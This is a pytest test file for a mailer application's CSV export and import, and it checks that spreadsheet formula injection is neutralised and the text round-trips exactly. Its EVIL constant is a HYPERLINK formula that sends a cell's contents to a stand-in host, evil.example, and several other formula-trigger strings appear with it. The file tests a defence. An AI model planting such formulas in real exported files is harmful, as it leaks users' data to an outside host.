"""CSV formula injection: export neutralises cells a spreadsheet would run, import of the
export takes the added quote off again (the round trip stays exact), rows typed by a person
are imported as written."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from mailer.errors import InvalidAttribute
from mailer.store import schema
from mailer.store.csv_export import export_csv
from mailer.store.csv_import import import_csv
from mailer.store.db import Store, create_db_engine, open_store
from mailer.store.report import ReportRow, write_report_csv
from mailer.store.subscribers import add_subscriber, get_subscriber, list_subscribers

MARKER = "mailer_export"  # the export's column (README "Subscribers"): part of the format
EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
# Every trigger OWASP lists, text that already starts with quotes, and text left alone.
NAMES = [
    EVIL,
    "+1 555 0100",
    "-minus",
    "@SUM(A1)",
    "\tTAB",
    "\r=CR",
    "'=typed with a quote",
    "''+two quotes",
    "'t Hooft",
    "O'Brien",
    "plain",
    "",
]


def _export(store: Store) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    export_csv(store, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def _fill(store: Store, names: list[str] = NAMES) -> None:
    for i, name in enumerate(names):
        add_subscriber(store, f"r{i}@example.org", name=name.strip(), attributes={"note": name})
    add_subscriber(store, "=cmd@example.org", attributes={"phone": "+49 30 1234"})


def test_export_neutralises_cells_a_spreadsheet_would_run(store: Store) -> None:
    _fill(store)
    rows = _export(store)
    assert all(row[MARKER] == "1" for row in rows)
    notes = [row["note"] for row in rows[: len(NAMES)]]
    assert notes == [
        "'" + EVIL,
        "'+1 555 0100",
        "'-minus",
        "'@SUM(A1)",
        "'\tTAB",
        "'\r=CR",
        "''=typed with a quote",
        "'''+two quotes",
        "'t Hooft",
        "O'Brien",
        "plain",
        "",
    ]
    assert rows[0]["name"] == "'" + EVIL
    last = rows[-1]
    assert (last["email"], last["phone"]) == ("'=cmd@example.org", "'+49 30 1234")
    # Columns a person cannot fill (uid, status, timestamps) never start like a formula.
    text_columns = ("email", "name", "note", "phone", "status_source", "status_reason")
    fixed = [v for row in rows for k, v in row.items() if k not in text_columns]
    assert not [v for v in fixed if v and v[0] in "=+-@\t\r'"]


def test_import_of_an_export_restores_the_text_exactly(store: Store, database_url: str) -> None:
    # (Import trims cells and skips empty ones: a leading tab or CR, or "", is not kept.)
    names = [name for name in NAMES if name and name == name.strip()]
    _fill(store, names)
    out = io.StringIO(newline="")
    export_csv(store, out)
    before = [(s.uid, s.email, s.name, s.attributes) for s in list_subscribers(store)]
    store.close()
    engine = create_db_engine(database_url)
    schema.downgrade(engine, "base")
    schema.upgrade(engine)
    engine.dispose()
    fresh = open_store(database_url)
    try:
        result = import_csv(fresh, io.StringIO(out.getvalue(), newline=""))
        assert (result.added, result.rejected) == (len(names) + 1, 0)
        after = [(s.uid, s.email, s.name, s.attributes) for s in list_subscribers(fresh)]
        assert after == before
        assert MARKER not in get_subscriber(fresh, "r0@example.org").attributes
        # And the import's export neutralises the same cells the same way.
        assert [r["note"] for r in _export(fresh)] == [r["note"] for r in _rows(out)]
    finally:
        fresh.close()


def _rows(out: io.StringIO) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_rows_without_the_export_mark_are_imported_as_written(store: Store) -> None:
    # A file made by a person: a leading quote is theirs, kept.
    typed = "email,name\na@example.org,'=not a formula\n"
    import_csv(store, io.StringIO(typed, newline=""))
    assert get_subscriber(store, "a@example.org").name == "'=not a formula"
    # An export with a row added by hand in the spreadsheet, its mark left empty.
    text = f"email,name,{MARKER}\nb@example.org,'=ours,1\nc@example.org,'=typed,\n"
    import_csv(store, io.StringIO(text, newline=""))
    assert get_subscriber(store, "b@example.org").name == "=ours"
    assert get_subscriber(store, "c@example.org").name == "'=typed"


def test_an_unknown_export_mark_is_rejected_with_its_line(store: Store) -> None:
    text = f"email,name,{MARKER}\na@example.org,'=x,2\n"
    result = import_csv(store, io.StringIO(text, newline=""))
    assert [(r.line, r.reason) for r in result.rejects] == [
        (2, f"{MARKER}: '2' is not 1 (written by export) or empty")
    ]


def test_the_mark_is_not_an_attribute_name(store: Store) -> None:
    with pytest.raises(InvalidAttribute, match=f"attribute '{MARKER}': is a column of the export"):
        add_subscriber(store, "a@example.org", attributes={MARKER: "x"})


def test_report_csv_neutralises_names_addresses_and_replies() -> None:
    out = io.StringIO(newline="")
    row = ReportRow("=x@example.org", EVIL, "failed", "bounced", 1, "-ERR", None)
    write_report_csv([row], out)
    (report,) = _rows(out)
    assert (report["email"], report["name"], report["last_reply"]) == (
        "'=x@example.org",
        "'" + EVIL,
        "'-ERR",
    )


@pytest.mark.timeout(180)  # LibreOffice starts in a few seconds on an idle machine
def test_libreoffice_shows_the_exported_formula_as_text(store: Store, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    add_subscriber(store, "victim@example.org", name=EVIL)
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as fh:
        export_csv(store, fh)
    # The control: the same cell as mailer exported it before, verbatim.
    (tmp_path / "verbatim.csv").write_text(
        'email,name\nvictim@example.org,"' + EVIL.replace('"', '""') + '"\n', encoding="utf-8"
    )
    shown = _as_calc_shows(soffice, tmp_path, ["export.csv", "verbatim.csv"])
    assert shown["verbatim.csv"][0]["name"] == "Click me"  # Calc ran the formula: a live link
    assert shown["export.csv"][0]["name"] == "'" + EVIL  # text, shown as exported: inert


def _as_calc_shows(soffice: str, folder: Path, names: list[str]) -> dict[str, list[dict[str, str]]]:
    """Open each CSV in LibreOffice Calc (UTF-8, comma; formulas are evaluated on load) and
    save what its cells show, as CSV again."""
    utf8_comma = "44,34,76,1"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            f"--infilter=CSV:{utf8_comma}",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{utf8_comma}",
            "--outdir",
            str(folder / "shown"),
            *(str(folder / name) for name in names),
        ],
        capture_output=True,
        text=True,
        timeout=150,
        env={**os.environ, "HOME": str(folder)},
    )
    assert done.returncode == 0, done.stderr
    shown = {}
    for name in names:
        with (folder / "shown" / name).open(encoding="utf-8", newline="") as fh:
            shown[name] = list(csv.DictReader(fh))
    return shown
